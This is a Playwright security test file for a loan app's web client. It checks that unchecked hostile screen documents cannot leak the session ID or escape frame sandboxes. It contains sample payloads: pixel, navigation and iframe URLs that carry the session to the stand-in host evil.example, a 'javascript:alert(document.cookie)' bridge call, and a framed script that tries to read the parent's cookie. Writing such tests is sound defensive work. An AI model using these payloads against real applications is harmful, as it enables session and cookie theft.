// What a screen may send off-site (issue 20 §4), the lendDetailsUrl rule (issue 16 item 2) and
// frames (issue 16 items 15, 16), in Chromium against the real server.
// - Hostile documents that arrive unchecked (served in place of a real screen, not through the
//   checker): a pixel with the session in its URL, a navigation carrying the session to another
//   origin, a third-party frame, a javascript: address for the native openPage. Nothing reaches
//   the foreign origin, the bridge gets nothing, and no CSP violation shows the page even tried.
// - The Go Loan redirect carries the common query and from=confirm to lendDetailsUrl on another
//   origin, because our server's reply named it (S2.18-10, D-50).
// - A framed page cannot read its parent; the app's own pages are shown in place, not framed.
import type { Page } from '@playwright/test';
import { test, expect, bridgeLog, cspViolations, toasts } from './support';
import { SESSION, editReply, queryOf, url } from './loan-helpers';

const EVIL = 'https://evil.example';

/** Requests that reached (or would have reached) the foreign origin. */
function foreign(page: Page, origin = EVIL): string[] {
  const seen: string[] = [];
  void page.route(`${origin}/**`, (route) => {
    seen.push(route.request().url());
    return route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>x</title>' });
  });
  return seen;
}

/**
 * Serves `doc` as the screen of `path`, the way a document that skipped the checker would arrive:
 * the page comes without its inlined copy, so the app fetches /screens/<id>.json and gets `doc`.
 */
async function serveUnchecked(page: Page, path: string, screenId: string, doc: object): Promise<void> {
  await page.route(
    (u) => u.pathname === path,
    async (route) => {
      const response = await route.fetch();
      const html = (await response.text()).replace(
        /<script type="application\/json" id="screen-doc">[\s\S]*?<\/script>/,
        '',
      );
      await route.fulfill({ response, body: html });
    },
  );
  await page.route(
    (u) => u.pathname === `/screens/${screenId}.json`,
    (route) => route.fulfill({ json: { ...doc, id: screenId } }),
  );
}

const hostile = (body: unknown[]) => ({
  $schema: '../schemas/screen.schema.json',
  schemaVersion: 1,
  title: 'Hello',
  params: ['sessionId'],
  body: [{ type: 'text', text: 'Hello borrower' }, ...body],
});

const tap = (onTap: unknown[]) => ({ type: 'button', label: 'Continue', onTap });

test.describe('hostile documents that arrive unchecked send nothing off-site (issue 20 §4)', () => {
  const routes: [string, unknown[]][] = [
    [
      'an https image pixel with {params.sessionId} in its URL',
      [{ type: 'image', src: { t: `${EVIL}/p.gif?s={params.sessionId}` }, alt: '', priority: true }],
    ],
    [
      'a navigation carrying the common query to a foreign origin',
      [
        tap([
          {
            do: 'navigate',
            to: `${EVIL}/landing`,
            commonParams: true,
            query: { s: { $: 'params.sessionId' } },
          },
        ]),
      ],
    ],
    [
      'a navigation to an address built from the session',
      [
        tap([
          { do: 'navigate', to: { t: `${EVIL}/landing?s={params.sessionId}` }, commonParams: 'anyOrigin' },
        ]),
      ],
    ],
    [
      'a third-party iframe',
      [
        {
          type: 'iframe',
          src: { t: `${EVIL}/frame?s={params.sessionId}` },
          title: 'Offer',
          sandbox: ['allow-scripts', 'allow-same-origin'],
        },
      ],
    ],
    [
      "a javascript: URL handed to the native bridge's openPage",
      [tap([{ do: 'bridge', name: 'openPage', payload: { url: 'javascript:alert(document.cookie)' } }])],
    ],
  ];

  for (const [name, body] of routes) {
    test(name, async ({ page, watch }) => {
      const reached = foreign(page);
      const navigations: string[] = [];
      page.on('framenavigated', (frame) => navigations.push(frame.url()));
      await serveUnchecked(page, '/about', 'about', hostile(body));
      await page.goto(`/about?sessionId=${SESSION.sessionId}&deviceId=${SESSION.deviceId}`);
      await expect(page.getByText('Hello borrower')).toBeVisible();
      const button = page.getByRole('button', { name: 'Continue' });
      if ((await button.count()) > 0) {
        await button.click();
        await expect(toasts(page).filter({ hasText: 'This link cannot be opened' })).toBeVisible();
      }
      await page.waitForTimeout(500);
      expect(reached, 'requests to the foreign origin').toEqual([]);
      expect(navigations.filter((u) => u.startsWith(EVIL) || /^javascript:/i.test(u))).toEqual([]);
      expect(new URL(page.url()).pathname).toBe('/about');
      await expect(page.locator(`[src^="${EVIL}"], [href^="${EVIL}"], iframe`)).toHaveCount(0);
      expect(await bridgeLog(page)).toEqual([]);
      expect(await cspViolations(page), 'the page did not even try (CSP had nothing to stop)').toEqual([]);
      expect(watch.pageErrors).toEqual([]);
    });
  }
});

// Issue 28 item 3: the probe on an origin the configuration lists (https://play.google.com, for
// the store links). Listing it lets a store badge load; it never lets the session go there.
test.describe('a pixel on a listed origin carrying the session (issue 28 item 3)', () => {
  const STORE = 'https://play.google.com';

  test('the live page sends nothing to the listed origin, and still shows a plain picture from it', async ({
    page,
    watch,
  }) => {
    const reached: string[] = [];
    // A 1x1 GIF, so the badge stays on the page.
    const gif = Buffer.from('R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==', 'base64');
    await page.route(`${STORE}/**`, (route) => {
      reached.push(route.request().url());
      return route.fulfill({ contentType: 'image/gif', body: gif });
    });
    await serveUnchecked(
      page,
      '/about',
      'about',
      hostile([
        { type: 'image', src: { t: `${STORE}/p.gif?sid={params.sessionId}` }, alt: '', priority: true },
        { type: 'image', src: `${STORE}/badge.png`, alt: 'Get it on Google Play', priority: true },
      ]),
    );
    await page.goto(`/about?sessionId=${SESSION.sessionId}&deviceId=${SESSION.deviceId}`);
    await expect(page.getByText('Hello borrower')).toBeVisible();
    await expect(page.getByRole('img', { name: 'Get it on Google Play' })).toBeAttached();
    await expect.poll(() => reached.length).toBe(1);
    await page.waitForTimeout(500);
    expect(reached, 'requests to the listed origin').toEqual([`${STORE}/badge.png`]);
    await expect(page.locator(`[src*="${SESSION.sessionId}"]`)).toHaveCount(0);
    expect(watch.pageErrors).toEqual([]);
  });
});

test.describe('Go Loan to a lendDetailsUrl on another origin (S2.18-10, D-34, D-50, issue 16 item 2)', () => {
  const H5 = 'https://h5.partner.example';

  test('the page is replaced with lendDetailsUrl + the common query + from=confirm', async ({ page }) => {
    const reached = foreign(page, H5);
    await editReply(page, '/v3/loan-confirm/loan-detail-push', (body) => ({
      ...body,
      data: { lendDetailsUrl: `${H5}/loan/details?orderId=ORD-9&productId=P-2`, orderId: 'ORD-9' },
    }));
    await page.goto(url('/loan/confirm', { productId: 'P-2' }));
    await page.getByRole('button', { name: 'Go Loan >', exact: true }).click();
    await expect.poll(() => reached.length).toBe(1);
    const target = new URL(reached[0]!);
    expect(target.origin + target.pathname).toBe(`${H5}/loan/details`);
    expect(queryOf(reached[0]!)).toEqual({
      orderId: 'ORD-9',
      productId: 'P-2',
      ...SESSION,
      product_id: 'P-2',
      from: 'confirm',
    });
    expect([...target.searchParams.keys()].at(-1)).toBe('from');
  });

  test('other cross-origin addresses from the server (contract_url) get no common query', async ({
    page,
  }) => {
    const reached = foreign(page, H5);
    await editReply(page, '/v3/contract/contract-jump', (body) => ({
      ...body,
      data: { contract_url: `${H5}/contract?id=1` },
    }));
    await page.goto(url('/loan/confirm', { productId: 'P-2' }));
    await page.getByRole('button', { name: 'Loan Agreement' }).click();
    await expect.poll(() => reached.length).toBe(1);
    expect(reached[0]).toBe(`${H5}/contract?id=1`);
  });
});

test.describe('frames (issue 16 items 15, 16)', () => {
  /** A page that tries to read its parent and lift its own sandbox, and says how it went. */
  const PROBE = `<!doctype html><html lang="en"><title>probe</title><body><h1>Agreement text</h1><script>
    let result;
    try {
      const cookie = window.parent.document.cookie;
      try { window.frameElement && window.frameElement.removeAttribute('sandbox'); } catch (e) {}
      result = 'read:' + cookie;
    } catch (error) {
      result = 'blocked:' + error.name;
    }
    window.parent.postMessage(result, '*');
  </script></body></html>`;

  test('a framed page tries to read the parent (cookie, sandbox) and fails', async ({ page }) => {
    await page.route('**/frame-probe.html*', (route) =>
      route.fulfill({ contentType: 'text/html', body: PROBE }),
    );
    await editReply(page, '/v3/loan-confirm/loan-detail-confirm', (body) => ({
      ...body,
      data: { ...(body.data as object), popAgreementUrl: '/frame-probe.html?id=AG-LOAN' },
    }));
    await page.addInitScript(() => {
      (window as unknown as { __probe: string[] }).__probe = [];
      window.addEventListener('message', (e) =>
        (window as unknown as { __probe: string[] }).__probe.push(String(e.data)),
      );
    });
    await page.goto(url('/loan/confirm', { productId: 'P-1' }));
    const frame = page.getByRole('dialog').locator('iframe');
    await expect(frame).toHaveAttribute('src', '/frame-probe.html?id=AG-LOAN');
    await expect(page.frameLocator('iframe').getByRole('heading', { name: 'Agreement text' })).toBeVisible();
    const said = () => page.evaluate(() => (window as unknown as { __probe: string[] }).__probe);
    await expect.poll(said).toHaveLength(1);
    expect((await said())[0]).toBe('blocked:SecurityError');
    const sandbox = (await frame.getAttribute('sandbox')) ?? '';
    expect(sandbox.split(/\s+/)).not.toContain('allow-same-origin');
  });

  test('the /agreement page in loan confirm is shown in place, not framed', async ({ page }) => {
    await page.goto(url('/loan/confirm', { productId: 'P-1' }));
    const modal = page.getByRole('dialog').filter({ hasText: 'Loan Agreement' });
    await expect(modal.getByRole('heading', { name: 'Loan terms and conditions' })).toBeVisible();
    await expect(modal.getByText('PesoQuick Lending Corporation').first()).toBeVisible();
    await expect(page.locator('iframe')).toHaveCount(0);
  });

  test('the Privacy tab shows our own /privacy page by default, in place', async ({ page }) => {
    await page.goto('/');
    await page.getByRole('tab', { name: 'Privacy Policy' }).click();
    const panel = page.getByRole('tabpanel');
    await expect(panel.getByRole('heading', { name: '1. Lender information' })).toBeVisible();
    await expect(panel.getByRole('heading', { name: '12. Grievance officer' })).toBeVisible();
    await expect(page.locator('iframe')).toHaveCount(0);
  });
});
